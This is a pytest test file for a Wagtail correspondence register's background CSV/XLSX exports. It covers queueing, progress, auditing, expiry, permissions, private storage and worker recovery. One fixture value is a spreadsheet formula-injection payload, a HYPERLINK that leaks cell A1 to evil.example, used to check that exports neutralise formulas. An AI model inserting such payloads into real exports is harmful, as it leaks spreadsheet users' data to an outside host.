"""Exports of large register lists as background tasks (services/register_exports.py): a list
above ``EXPORT_INLINE_LIMIT`` is queued instead of written during the request, the task writes
exactly what the inline export of the same list gives (scope, filters, search, formula rule),
records its progress, and the file is kept for its requester alone, for ``EXPORT_KEEP_HOURS``.

The tests' task backend is the immediate one: a queued export is written when the request's
transaction commits (``django_capture_on_commit_callbacks(execute=True)``)."""

import csv
import datetime
import io
import os

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from wagtail.models import ModelLogEntry

from wagtail_correspondence import log_actions, roles
from wagtail_correspondence.exports import FORMULA_TRIGGERS, FormulaSafeExportMixin
from wagtail_correspondence.models import (
    Confidentiality,
    Correspondence,
    Direction,
    RegisterExport,
    RegisterExportStatus,
)
from wagtail_correspondence.models.attachments import register_storage
from wagtail_correspondence.services import register_exports

ENTRIES = "/admin/correspondence/register/entries/"
EXPORTS = "/admin/correspondence/register/exports/"
START = datetime.datetime(2026, 3, 2, 9, 0, tzinfo=datetime.timezone.utc)
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")'


def download_url(export):
    return reverse("wagtail_correspondence_register:export_download", args=[export.pk])


def body(response):
    assert response.status_code == 200, (response.status_code, response.get("Location"))
    return b"".join(response.streaming_content) if response.streaming else response.content


def refused(response):
    """Wagtail's admin answers a refusal with 403, or a redirect to the dashboard and a message."""
    return response.status_code == 403 or (response.status_code == 302 and response["Location"] == "/admin/")


def messages_of(response):
    return [str(message) for message in response.wsgi_request._messages]


def set_register(settings, **values):
    """Change REGISTER settings, keeping the site's others (its private STORAGE among them)."""
    configured = getattr(settings, "WAGTAIL_CORRESPONDENCE", {})
    settings.WAGTAIL_CORRESPONDENCE = {**configured, "REGISTER": {**configured.get("REGISTER", {}), **values}}


@pytest.fixture
def limit(settings):
    """Lists of more than 5 entries are exported in the background."""
    set_register(settings, EXPORT_INLINE_LIMIT=5)
    return 5


@pytest.fixture
def org(billing_and_claims):
    return billing_and_claims


@pytest.fixture
def people(org, billing_officer, make_user):
    exporter = make_user("exporting-officer", roles.OFFICERS)  # an officer of Billing who may export
    exporter.user_permissions.add(Permission.objects.get(codename="export_correspondence"))
    org["billing"].members.add(exporter)
    return {"officer": billing_officer, "exporter": exporter, "sue": make_user("sue", roles.SUPERVISORS),
            "sam": make_user("sam", roles.SUPERVISORS), "audrey": make_user("audrey", roles.AUDITORS),
            "root": make_user("root", superuser=True)}


@pytest.fixture
def entries(org, people):
    """12 billing entries (some with formulas for subjects and senders), 4 claims entries, 2
    strictly confidential billing entries: 18 for a supervisor, 12 for an officer of Billing."""
    rows = []
    for number in range(12):
        rows.append(Correspondence(
            reference=f"B-{number:03}", subject=HOSTILE if number % 3 == 0 else f"Refund question {number}",
            sender_name="@SUM(1)" if number % 4 == 0 else f"Customer {number}", direction=Direction.INBOUND,
            department=org["billing"], registered_at=START + datetime.timedelta(minutes=number)))
    for number in range(4):
        rows.append(Correspondence(reference=f"C-{number:03}", subject=f"Refund claim {number}",
                                   direction=Direction.OUTBOUND, department=org["claims"],
                                   registered_at=START + datetime.timedelta(minutes=30 + number)))
    for number in range(2):
        rows.append(Correspondence(reference=f"S-{number:03}", subject="Refund secret", direction=Direction.INBOUND,
                                   department=org["billing"], confidentiality=Confidentiality.SECRET,
                                   registered_at=START + datetime.timedelta(minutes=40 + number)))
    Correspondence.objects.bulk_create(rows)
    return rows


def export_list(client, django_capture_on_commit_callbacks, run=True, **params):
    """Ask for the list's export; with ``run``, the task writes it when the request commits."""
    with django_capture_on_commit_callbacks(execute=run) as callbacks:
        response = client.get(ENTRIES, params)
    return response, callbacks


def csv_rows(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def xlsx_rows(content):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


# Queueing -----------------------------------------------------------------------------------

def test_a_small_list_still_downloads_at_once(client, people, entries, limit, django_capture_on_commit_callbacks):
    client.force_login(people["sue"])
    response, callbacks = export_list(client, django_capture_on_commit_callbacks, export="csv", department="claims")
    rows = csv_rows(body(response))  # 4 entries: the file itself, in the response
    assert len(rows) == 5 and response["Content-Disposition"] == 'attachment; filename="register.csv"'
    assert not RegisterExport.objects.exists() and not callbacks


def test_a_large_list_is_queued_and_the_user_lands_on_the_exports_page(client, people, entries, limit,
                                                                       django_capture_on_commit_callbacks):
    client.force_login(people["sue"])
    response, callbacks = export_list(client, django_capture_on_commit_callbacks, run=False,
                                      export="xlsx", direction__exact="inbound", q="refund", p="2")
    assert response.status_code == 302 and response["Location"] == EXPORTS
    assert "its export is being written in the background" in messages_of(response)[0]
    export = RegisterExport.objects.get()
    # The list's filters and search, without the page and the export format.
    assert (export.requested_by, export.format, export.status, export.query_string, export.list_title) == (
        people["sue"], "xlsx", RegisterExportStatus.QUEUED, "direction__exact=inbound&q=refund", "Inbound register")
    assert len(callbacks) == 1  # the task is handed over once the request commits
    page = client.get(EXPORTS).content.decode()
    assert "Inbound register" in page and "Waiting for a worker" in page and "data-download-export" not in page


def test_a_list_too_slow_to_count_is_exported_in_the_background(client, people, entries, settings, monkeypatch,
                                                                django_capture_on_commit_callbacks):
    """``capped_count`` says UNCOUNTED (counting timed out) or None (above EXACT_COUNT_LIMIT):
    both are large, whatever the inline limit."""
    from wagtail_correspondence.services import register_access

    client.force_login(people["sue"])
    for answer in (register_access.UNCOUNTED, None):
        monkeypatch.setattr(register_access, "capped_count", lambda queryset, answer=answer: answer)
        response, _ = export_list(client, django_capture_on_commit_callbacks, run=False, export="csv")
        assert response.status_code == 302 and response["Location"] == EXPORTS
    assert RegisterExport.objects.count() == 2


# The task ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("who, params, expected", [
    ("sue", {}, 18),
    # An officer of Billing: neither Claims nor the confidential entries; sorted by reference.
    ("exporter", {"q": "refund", "o": "0"}, 12),
    ("sue", {"department": "billing", "q": "refund"}, 14),
])
def test_the_file_holds_exactly_what_the_inline_export_gives(client, people, entries, settings, kind, who, params,
                                                             expected, django_capture_on_commit_callbacks):
    """Same rows in the same order, same columns, same cells (formulas neutralised), in the
    requester's scope: the task opens the list through the list's own code."""
    client.force_login(people[who])
    inline = body(client.get(ENTRIES, {**params, "export": kind}))
    set_register(settings, EXPORT_INLINE_LIMIT=5)
    response, _ = export_list(client, django_capture_on_commit_callbacks, **params, export=kind)
    assert response["Location"] == EXPORTS
    export = RegisterExport.objects.get()
    assert export.status == RegisterExportStatus.DONE, export.error
    downloaded = body(client.get(download_url(export)))
    read = csv_rows if kind == "csv" else xlsx_rows
    rows = read(downloaded)
    assert rows == read(inline)
    if kind == "csv":
        assert downloaded == inline  # byte for byte
    references = [row[0] for row in rows[1:]]
    assert len(references) == export.rows_written == export.total_rows == expected
    if who == "exporter":
        assert references == [f"B-{number:03}" for number in range(12)]
    cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    assert "'" + HOSTILE in cells and "'@SUM(1)" in cells
    assert not [cell for cell in cells if cell[:1] in FORMULA_TRIGGERS]
    assert export.size == len(downloaded) and export.file_name.endswith(f".{kind}")


def test_progress_is_recorded_as_rows_are_written(client, people, entries, limit, monkeypatch,
                                                  django_capture_on_commit_callbacks):
    monkeypatch.setattr(FormulaSafeExportMixin, "export_chunk_size", 4)
    monkeypatch.setattr(register_exports, "PROGRESS_EVERY", 4)
    recorded = []
    real_record = register_exports._Progress.record

    def record(progress, rows, now):
        real_record(progress, rows, now)
        export = RegisterExport.objects.get(pk=progress.export.pk)
        recorded.append((export.status, export.rows_written, export.total_rows))

    monkeypatch.setattr(register_exports._Progress, "record", record)
    client.force_login(people["sue"])
    export_list(client, django_capture_on_commit_callbacks, export="csv")
    # 18 rows, recorded in the database every 4 while the export runs, with the list's size.
    assert recorded == [("running", rows, 18) for rows in (4, 8, 12, 16)]
    export = RegisterExport.objects.get()
    assert (export.status, export.rows_written, export.total_rows) == ("done", 18, 18)
    assert export.progress()["percent"] == 100 and export.progress()["text"] == "18 of 18 rows (100%)"
    assert export.started_at <= export.finished_at and export.lease_expires_at is None


def test_the_export_is_audited_when_written_and_when_downloaded(client, people, entries, limit,
                                                                django_capture_on_commit_callbacks):
    client.force_login(people["sue"])
    export_list(client, django_capture_on_commit_callbacks, export="csv", department="billing")
    export = RegisterExport.objects.get()
    written = ModelLogEntry.objects.get(action=log_actions.REGISTER_EXPORTED, user=people["sue"])
    assert written.data == {"format": "csv", "count": 14, "filters": "department=billing", "export": str(export.uuid)}
    body(client.get(download_url(export)))
    body(client.get(download_url(export)))
    assert ModelLogEntry.objects.filter(action=log_actions.REGISTER_EXPORT_DOWNLOADED, user=people["sue"],
                                        data__export=str(export.uuid)).count() == 2


def test_the_exports_page_shows_progress_and_the_download_button(client, people, entries, limit,
                                                                 django_capture_on_commit_callbacks):
    client.force_login(people["sue"])
    export_list(client, django_capture_on_commit_callbacks, run=False, export="csv")
    running = RegisterExport.objects.get()
    RegisterExport.objects.filter(pk=running.pk).update(status="running", rows_written=2000, total_rows=None)
    page = client.get(EXPORTS).content.decode()
    assert "2,000 rows so far" in page and "Being written" in page
    RegisterExport.objects.filter(pk=running.pk).update(rows_written=2000, total_rows=8000)
    page = client.get(EXPORTS).content.decode()
    assert "2,000 of 8,000 rows (25%)" in page and 'value="25"' in page
    progress = client.get(reverse("wagtail_correspondence_register:export_progress")).json()["exports"]
    assert progress == [{"id": running.pk, "status": "running", "status_display": "Being written", "rows": 2000,
                         "total": 8000, "percent": 25, "active": True, "text": "2,000 of 8,000 rows (25%)"}]

    RegisterExport.objects.all().delete()
    export_list(client, django_capture_on_commit_callbacks, export="csv")
    export = RegisterExport.objects.get()
    page = client.get(EXPORTS).content.decode()
    assert f'href="{download_url(export)}"' in page and "data-download-export" in page and "Ready" in page
    assert "kept until" in page and "/media/" not in page
    # Human dates, not timestamps.
    assert str(export.requested_at.year) in page and export.requested_at.isoformat()[:16] not in page


# Keeping the file, then deleting it -----------------------------------------------------------------

def test_files_are_deleted_when_they_expire(client, people, entries, limit, settings,
                                            django_capture_on_commit_callbacks):
    set_register(settings, EXPORT_KEEP_HOURS=2)
    client.force_login(people["sue"])
    export_list(client, django_capture_on_commit_callbacks, export="xlsx")
    export = RegisterExport.objects.get()
    storage = register_storage()
    assert export.parts and all(storage.exists(name) for name in export.parts)
    assert abs((export.expires_at - export.finished_at) - datetime.timedelta(hours=2)) < datetime.timedelta(seconds=1)

    assert register_exports.delete_expired(now=export.expires_at - datetime.timedelta(minutes=1)).startswith("0 ")
    assert all(storage.exists(name) for name in export.parts)
    # Past its time, before the sweep has run: not served any more.
    RegisterExport.objects.filter(pk=export.pk).update(expires_at=export.expires_at - datetime.timedelta(hours=3))
    response = client.get(download_url(export))
    assert response.status_code == 302 and response["Location"] == EXPORTS
    assert "This export has expired" in messages_of(response)[-1]
    # The sweep deletes the file and keeps the record.
    assert register_exports.delete_expired().startswith("1 ")
    assert not any(storage.exists(name) for name in export.parts)
    export.refresh_from_db()
    assert export.status == RegisterExportStatus.EXPIRED and export.parts == []
    response = client.get(download_url(export), follow=True)
    assert response.status_code == 200 and "This export has expired" in response.content.decode()
    assert "Expired" in response.content.decode()


def test_the_scheduler_deletes_expired_exports(db):
    from django.core.management import call_command

    from wagtail_correspondence.models import JobOutcome, ScheduledJob

    call_command("correspondence_scheduler", "--once", "--job", "register-exports", stdout=io.StringIO(),
                 stderr=io.StringIO())
    assert ScheduledJob.objects.get(name="register-exports").last_outcome == JobOutcome.OK


# Who may see and download an export -------------------------------------------------------------

def test_only_the_requester_sees_and_downloads_their_export(client, people, entries, limit,
                                                            django_capture_on_commit_callbacks):
    client.force_login(people["sue"])
    export_list(client, django_capture_on_commit_callbacks, export="csv")
    sues = RegisterExport.objects.get()
    client.force_login(people["audrey"])
    export_list(client, django_capture_on_commit_callbacks, export="csv")
    audreys = RegisterExport.objects.exclude(pk=sues.pk).get()
    assert audreys.status == sues.status == RegisterExportStatus.DONE

    # Another supervisor, an officer who may export, the superuser, the auditor: 404, nothing
    # of the file, and it is not on their Exports page.
    for who in ("sam", "exporter", "root", "audrey"):
        client.force_login(people[who])
        response = client.get(download_url(sues))
        assert response.status_code == 404, who
        assert b"B-000" not in response.content
        page = client.get(EXPORTS).content.decode()
        assert download_url(sues) not in page, who
        progress = client.get(reverse("wagtail_correspondence_register:export_progress")).json()["exports"]
        assert sues.pk not in [item["id"] for item in progress], who
    # The auditor has theirs, and only theirs.
    page = client.get(EXPORTS).content.decode()
    assert page.count("data-download-export") == 1 and download_url(audreys) in page
    assert body(client.get(download_url(audreys))).startswith(b'"Reference Number"')
    assert not ModelLogEntry.objects.filter(action=log_actions.REGISTER_EXPORT_DOWNLOADED,
                                            data__export=str(sues.uuid)).exists()


def test_the_export_permission_is_checked_when_queueing(client, people, entries, limit,
                                                        django_capture_on_commit_callbacks):
    from django.core.exceptions import PermissionDenied

    client.force_login(people["officer"])  # officers may not export
    response, callbacks = export_list(client, django_capture_on_commit_callbacks, export="csv")
    assert refused(response) and not callbacks and not RegisterExport.objects.exists()
    assert refused(client.get(EXPORTS))
    with pytest.raises(PermissionDenied):
        register_exports.queue_export(people["officer"], "csv", "")
    assert not RegisterExport.objects.exists()


def test_the_export_permission_is_checked_when_downloading(client, people, entries, limit,
                                                           django_capture_on_commit_callbacks):
    client.force_login(people["exporter"])
    export_list(client, django_capture_on_commit_callbacks, export="csv")
    export = RegisterExport.objects.get()
    assert body(client.get(download_url(export)))
    people["exporter"].user_permissions.remove(Permission.objects.get(codename="export_correspondence"))
    response = client.get(download_url(export))
    assert refused(response) and not getattr(response, "streaming", False)
    assert refused(client.get(EXPORTS))
    assert refused(client.get(reverse("wagtail_correspondence_register:export_progress")))


def test_anonymous_callers_are_sent_to_the_login_page(client, people, entries, limit,
                                                      django_capture_on_commit_callbacks):
    client.force_login(people["sue"])
    export_list(client, django_capture_on_commit_callbacks, export="csv")
    client.logout()
    export = RegisterExport.objects.get()
    for url in (EXPORTS, reverse("wagtail_correspondence_register:export_progress"), download_url(export)):
        response = client.get(url)
        assert response.status_code == 302 and response["Location"].startswith("/admin/login/"), url


@pytest.mark.parametrize("kind, content_type", [
    ("csv", "text/csv; charset=utf-8"),
    ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")])
def test_the_file_is_an_attachment_served_by_the_view_from_private_storage(
        client, people, entries, limit, settings, kind, content_type, django_capture_on_commit_callbacks):
    client.force_login(people["sue"])
    export_list(client, django_capture_on_commit_callbacks, export=kind)
    export = RegisterExport.objects.get()
    response = client.get(download_url(export))
    content = body(response)
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f'attachment; filename="{export.file_name}"'
    assert response["Content-Length"] == str(len(content)) and response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]
    # In the register's private storage (the reference site encrypts it), never under MEDIA_ROOT.
    storage = register_storage()
    for name in export.parts:
        path = os.path.realpath(storage.path(name))
        assert not path.startswith(os.path.realpath(settings.MEDIA_ROOT))
        with open(path, "rb") as stored:
            assert b"B-000" not in stored.read()


def test_a_large_file_is_stored_in_parts_and_served_whole(client, people, entries, limit, monkeypatch,
                                                          django_capture_on_commit_callbacks):
    monkeypatch.setattr(register_exports, "PART_BYTES", 1000)
    monkeypatch.setattr(register_exports, "STREAM_BYTES", 300)
    client.force_login(people["sue"])
    export_list(client, django_capture_on_commit_callbacks, export="csv")
    export = RegisterExport.objects.get()
    content = body(client.get(download_url(export)))
    assert len(export.parts) == -(-len(content) // 1000) > 1
    import hashlib

    assert export.sha256 == hashlib.sha256(content).hexdigest() and len(csv_rows(content)) == 19


def test_a_tampered_id_or_an_unavailable_file_gives_a_message_not_a_500(client, people, entries, limit,
                                                                        django_capture_on_commit_callbacks):
    client.force_login(people["sue"])
    export_list(client, django_capture_on_commit_callbacks, run=False, export="csv")
    export = RegisterExport.objects.get()
    assert client.get(f"{EXPORTS}99999999/download/").status_code == 404
    assert client.get(f"{EXPORTS}{export.pk}x/download/").status_code == 404
    assert client.get(f"{EXPORTS}99999999999999999999999/download/").status_code == 404
    for status, error, message in [("queued", "", "This export is not written yet"),
                                   ("failed", "Something broke.", "This export failed, so there is no file: "
                                                                  "Something broke.")]:
        RegisterExport.objects.filter(pk=export.pk).update(status=status, error=error)
        response = client.get(download_url(export), follow=True)
        assert response.status_code == 200 and message in response.content.decode()
    # Done, but its file is gone from storage (deleted by hand).
    RegisterExport.objects.filter(pk=export.pk).update(status="done", parts=["correspondence/gone/part-00001"],
                                                       expires_at=None)
    response = client.get(download_url(export), follow=True)
    assert "The file of this export is no longer in storage" in response.content.decode()


# The task checks again -----------------------------------------------------------------------------

@pytest.mark.parametrize("change, reason", [
    ("deactivated", "account is no longer active"),
    ("permission removed", "may no longer export the register"),
])
def test_the_task_checks_the_user_again_when_it_runs(client, people, entries, limit, change, reason,
                                                     django_capture_on_commit_callbacks):
    user = people["exporter"]
    client.force_login(user)
    response, callbacks = export_list(client, django_capture_on_commit_callbacks, run=False, export="csv")
    assert response["Location"] == EXPORTS
    if change == "deactivated":
        user.is_active = False
        user.save()
    else:
        user.user_permissions.remove(Permission.objects.get(codename="export_correspondence"))
    for callback in callbacks:  # the worker picks it up now
        callback()
    export = RegisterExport.objects.get()
    assert export.status == RegisterExportStatus.FAILED and reason in export.error
    assert export.parts == [] and export.rows_written == 0 and not export.sha256
    assert not register_storage().exists(f"correspondence/register/exports/{export.uuid}")
    assert not ModelLogEntry.objects.filter(action=log_actions.REGISTER_EXPORTED).exists()


def test_the_task_writes_the_scope_the_user_has_when_it_runs(client, people, org, entries, limit,
                                                             django_capture_on_commit_callbacks):
    """Moved out of Billing after asking: the file holds what the list shows them now."""
    user = people["exporter"]
    client.force_login(user)
    _, callbacks = export_list(client, django_capture_on_commit_callbacks, run=False, export="csv")
    org["billing"].members.remove(user)
    org["claims"].members.add(user)
    for callback in callbacks:
        callback()
    export = RegisterExport.objects.get()
    references = [row[0] for row in csv_rows(body(client.get(download_url(export))))[1:]]
    assert sorted(references) == ["C-000", "C-001", "C-002", "C-003"]


# Workers that die ---------------------------------------------------------------------------------

def test_an_export_whose_worker_died_is_written_by_another(client, people, entries, limit, settings,
                                                           django_capture_on_commit_callbacks):
    from django.utils import timezone

    from wagtail_correspondence.services.recovery import recover

    client.force_login(people["sue"])
    export_list(client, django_capture_on_commit_callbacks, run=False, export="csv")
    export = RegisterExport.objects.get()
    # A worker took it and died: running, its lease expired.
    gone = timezone.now() - datetime.timedelta(seconds=1)
    RegisterExport.objects.filter(pk=export.pk).update(status="running", attempts=1, rows_written=4000,
                                                       lease_expires_at=gone)
    summary = recover()
    export.refresh_from_db()
    assert summary.exports_resumed == [export.pk] and export.status == RegisterExportStatus.DONE
    assert export.attempts == 2 and export.rows_written == 18
    # One that keeps dying is given up on, with a reason.
    max_resumes = settings.WAGTAIL_CORRESPONDENCE.get("BACKGROUND", {}).get("MAX_AUTO_RESUMES", 3)
    RegisterExport.objects.filter(pk=export.pk).update(status="running", attempts=max_resumes + 1, lease_expires_at=gone)
    summary = recover()
    export.refresh_from_db()
    assert summary.exports_failed == [export.pk] and export.status == RegisterExportStatus.FAILED
    assert "stopped" in export.error


def test_a_worker_whose_export_was_taken_over_keeps_nothing(people, entries, limit):
    """The first run's lease expired and a second run took the export: the first, finishing
    late, neither records its file nor leaves it in storage."""
    export = register_exports.queue_export(people["sue"], "csv", "")
    first, attempt = register_exports._take(export.pk, "")
    RegisterExport.objects.filter(pk=export.pk).update(attempts=attempt + 1)  # taken over
    with io.BytesIO(b"reference\nB-000\n") as output:
        stored = register_exports._store(first, attempt, output)
    assert register_exports._finish(first, attempt, 1, stored) == RegisterExportStatus.RUNNING
    assert not any(register_storage().exists(name) for name in stored["parts"])
    export.refresh_from_db()
    assert export.parts == [] and export.rows_written == 0
